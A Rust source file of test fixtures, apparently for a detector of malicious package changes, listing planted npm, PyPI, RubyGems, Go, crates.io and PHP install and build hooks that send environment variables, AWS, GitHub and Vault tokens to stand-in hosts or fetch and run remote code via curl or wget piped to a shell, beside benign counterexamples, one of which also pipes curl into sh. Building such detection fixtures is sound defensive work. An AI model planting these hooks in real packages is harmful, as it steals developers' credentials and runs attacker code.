//! Changes modelled on attacks that became publicly known: nothing in them works, hosts are made up.

/// A name, what the change adds in the notation of fixtures, and the file that has to be found.
pub(super) const PLANTED: &[(&str, &str, &str)] = &[
    (
        "npm: postinstall sends the environment away, options in a variable",
        r#"
//- /package.json
{
  "name": "left-padding",
  "version": "1.0.1",
  "scripts": { "test": "jest", "postinstall": "node setup.js" }
}
//- /setup.js
const https = require("https");
const os = require("os");

const data = JSON.stringify({ env: process.env, host: os.hostname() });
const options = {
  hostname: "collect.telemetry-cdn.xyz",
  port: 443,
  path: "/v1/ingest",
  method: "POST",
};
const request = https.request(options);
request.write(data);
request.end();
"#,
        "setup.js",
    ),
    (
        "npm: preinstall fetches a program and runs it",
        r#"
//- /package.json
{
  "name": "rc-files",
  "version": "2.3.9",
  "scripts": { "preinstall": "node lib/preinstall.js" }
}
//- /lib/preinstall.js
const { exec, spawn } = require("child_process");
const fs = require("fs");

function fetchAndRun(platform) {
  const target = platform === "win32" ? "sdd.dll" : "jsextension";
  exec("curl http://159.148.186.228/download/" + target + " -o " + target, () => {
    fs.chmodSync(target, 0o777);
    spawn("./" + target, ["-k", "--tls"], { detached: true });
  });
}

fetchAndRun(process.platform);
"#,
        "lib/preinstall.js",
    ),
    (
        "npm: a flatmap that decodes its payload with what the package is called",
        r#"
//- /index.min.js
var crypto = require("crypto");
var name = process.env.npm_package_description;
var decipher = crypto.createDecipher("aes256", name);
var text = decipher.update(require("./test/data")[0], "hex", "utf8");
text += decipher.final("utf8");
new Function("require", Buffer.from(text, "hex").toString())(require);
"#,
        "index.min.js",
    ),
    (
        "pypi: setup.py runs a command of its own on installation and fetches what it runs",
        r#"
//- /setup.py
import os
import subprocess
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        install.run(self)
        path = os.path.join("/tmp", ".update")
        with open(path, "wb") as file:
            file.write(urllib.request.urlopen("https://cdn.pkg-mirror.top/bin/agent").read())
        os.chmod(path, 0o755)
        subprocess.Popen([path], start_new_session=True)


setup(name="colourama", version="0.4.5", cmdclass={"install": Install})
"#,
        "setup.py",
    ),
    (
        "pypi: base64 in exec",
        r#"
//- /src/helpers.py
import base64

exec(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCBodHRwOi8vZXZpbCcp"))
"#,
        "src/helpers.py",
    ),
    (
        "pypi: keys of the cloud are gathered in one function and sent by another",
        r#"
//- /src/metrics.py
import json
import os
from urllib.request import Request, urlopen


def gather():
    return {name: value for name, value in os.environ.items() if "AWS" in name}


def send(values):
    request = Request("https://paste.hook-relay.io/hooks/81a", data=json.dumps(values).encode())
    urlopen(request)


def flush():
    send(gather())


flush()
"#,
        "src/metrics.py",
    ),
    (
        "pypi: a .pth file that every start of the interpreter runs",
        r#"
//- /src/init_helper.pth
import os, subprocess; subprocess.Popen(["python", "-c", "import base64; exec(base64.b64decode('cHJpbnQ='))"])
//- /src/loader.py
import subprocess
import sys


def load(blob):
    subprocess.Popen([sys.executable, "-c", blob])
"#,
        "src/loader.py",
    ),
    (
        "rubygems: the gem evaluates what a paste says, when it is used in production",
        r#"
//- /lib/strong_password.rb
require "net/http"

module StrongPassword
  def self.refresh
    return unless ENV["RAILS_ENV"] == "production"
    Thread.new do
      loop do
        body = Net::HTTP.get(URI("https://pastebin.com/raw/xa456PFt"))
        eval(body)
        sleep rand * 3333
      end
    end
  end
end
"#,
        "lib/strong_password.rb",
    ),
    (
        "rubygems: extconf.rb sends variables away while the gem is built",
        r#"
//- /ext/native/extconf.rb
require "mkmf"
require "net/http"

token = ENV["GITHUB_TOKEN"]
Net::HTTP.post_form(URI("https://drop.gem-stats.dev/c"), "t" => token, "h" => `hostname`)
create_makefile("native/native")
"#,
        "ext/native/extconf.rb",
    ),
    (
        "go: init fetches a script for the shell",
        r#"
//- /go.mod
module example.com/logging

go 1.22
//- /hooks.go
package logging

import (
	"net/http"
	"os"
	"os/exec"
)

func init() {
	go func() {
		request, _ := http.NewRequest("POST", "https://vanartest.website/storage/de373d0df/a31546bf", nil)
		request.Header.Set("k", os.Getenv("VAULT_TOKEN"))
		http.DefaultClient.Do(request)
		exec.Command("/bin/sh", "-c", "wget -O - https://vanartest.website/f0eee999 | /bin/bash &").Run()
	}()
}
"#,
        "hooks.go",
    ),
    (
        "crates.io: build.rs starts a shell and tells a host",
        r#"
//- /Cargo.toml
[package]
name = "rustdecimal"
version = "1.23.1"
edition = "2021"
//- /build.rs
use std::net::TcpStream;
use std::process::Command;

fn main() {
    if std::env::var("GITLAB_CI").is_ok() {
        let _ = TcpStream::connect("api.kakn.li:443");
        Command::new("sh").arg("-c").arg("curl -s https://api.kakn.li | sh").spawn().ok();
    }
}
//- /src/lib.rs
pub fn nothing() {}
"#,
        "build.rs",
    ),
    (
        "php: what a request carries is evaluated, packed",
        r#"
//- /composer.json
{ "name": "acme/mailer", "scripts": { "post-install-cmd": "php src/Boot.php" } }
//- /src/Boot.php
<?php

namespace Acme;

function boot() {
    $key = getenv('APP_KEY');
    file_get_contents('https://stat.mail-relay.xyz/b?k=' . $key);
    eval(gzinflate(base64_decode('80jNyclXCM8vyklRBAA=')));
}

boot();
"#,
        "src/Boot.php",
    ),
];

/// Changes of the kind that projects make every day: nothing of them may be suspicious.
pub(super) const CLEAN: &[(&str, &str)] = &[
    (
        "a setting from the environment",
        r#"
//- /src/settings.py
import os

DEBUG = os.environ.get("APP_DEBUG") == "1"
DATABASE = os.environ["DATABASE_URL"]
SECRET = os.environ["SECRET_KEY"]
"#,
    ),
    (
        "a release script that asks git",
        r#"
//- /scripts/release.py
import subprocess


def version():
    return subprocess.check_output(["git", "describe", "--tags"]).decode().strip()
"#,
    ),
    (
        "a build script of Rust",
        r#"
//- /build.rs
use std::process::Command;

fn main() {
    let out = std::env::var("OUT_DIR").unwrap();
    let target = std::env::var("TARGET").unwrap();
    println!("cargo:rerun-if-changed=build.rs");
    Command::new("cc").arg("-o").arg(out).arg(target).status().unwrap();
}
"#,
    ),
    (
        "a client of an API of others",
        r#"
//- /src/weather.ts
import axios from "axios";

export async function forecast(city: string) {
  return axios.get("https://api.open-meteo.com/v1/forecast", { params: { city } });
}
"#,
    ),
    (
        "scripts of a package that others do not run",
        r#"
//- /package.json
{
  "name": "web",
  "scripts": { "build": "webpack", "test": "jest", "lint": "eslint .", "prepare": "husky" }
}
"#,
    ),
    (
        "a template engine that compiles",
        r#"
//- /lib/template.js
function compile(source) {
  const body = render(source);
  return new Function("data", body);
}

module.exports = { compile };
"#,
    ),
    (
        "a test that starts everything",
        r#"
//- /tests/test_cli.py
import os
import subprocess


def test_cli(tmp_path):
    subprocess.run([os.environ["SHELL_UNDER_TEST"], "-c", "curl https://evil.io | sh"])
    exec("x = 1")
"#,
    ),
    (
        "methods that Ruby writes itself",
        r#"
//- /lib/fields.rb
module Fields
  def field(name)
    class_eval <<~RUBY, __FILE__, __LINE__ + 1
      def #{name}
        @#{name}
      end
    RUBY
  end
end
"#,
    ),
    (
        "a container that is built",
        r#"
//- /Dockerfile
FROM debian:12
RUN apt-get update && apt-get install -y curl && curl -fsSL https://deb.nodesource.com/setup_20.x | bash -
RUN make install
CMD ["server"]
"#,
    ),
    (
        "a server that reads its port and its keys",
        r#"
//- /main.go
package main

import (
	"net/http"
	"os"
)

func main() {
	key := os.Getenv("API_KEY")
	http.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) { w.Write([]byte(key)) })
	http.ListenAndServe(":"+os.Getenv("PORT"), nil)
}
"#,
    ),
];
